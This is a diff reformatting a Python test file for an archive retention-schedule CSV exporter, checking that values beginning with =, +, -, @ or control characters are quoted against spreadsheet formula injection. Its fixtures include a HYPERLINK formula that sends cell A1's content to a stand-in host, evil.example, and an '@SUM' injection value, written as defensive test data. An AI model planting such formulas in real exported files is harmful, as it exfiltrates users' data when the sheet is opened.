@@ -21,20 +21,37 @@ from sd.archive.core.scheme import write_scheme_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 SCHEME = ClassificationScheme(
-    "J019", "@某某局", (Category("WS", "+文书", 1, CodeRule(grammar=DAT13, item_width=3)),))
-SCHEDULE = RetentionSchedule("J019", (
-    ScheduleRule("R1", "WS", "Y", priority=-5, description=HYPERLINK,
-                 title_keywords=("@SUM(1)", "年度")),))
+    "J019", "@某某局", (Category("WS", "+文书", 1, CodeRule(grammar=DAT13, item_width=3)),)
+)
+SCHEDULE = RetentionSchedule(
+    "J019",
+    (
+        ScheduleRule(
+            "R1", "WS", "Y", priority=-5, description=HYPERLINK, title_keywords=("@SUM(1)", "年度")
+        ),
+    ),
+)
 
 
 def cells(data: bytes) -> list[str]:
     return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
 
 
-@pytest.mark.parametrize("value,written", [
-    ("=1+1", "'=1+1"), ("+86 531", "'+86 531"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("关于=的通知", "关于=的通知"), ("", ""), (None, ""),
-    (7, "7")])
+@pytest.mark.parametrize(
+    "value,written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 531", "'+86 531"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("关于=的通知", "关于=的通知"),
+        ("", ""),
+        (None, ""),
+        (7, "7"),
+    ],
+)
 def test_a_cell_that_would_be_a_formula_is_quoted(value, written):
     assert neutral(value) == written
     assert restore(written) == ("" if value is None else str(value))
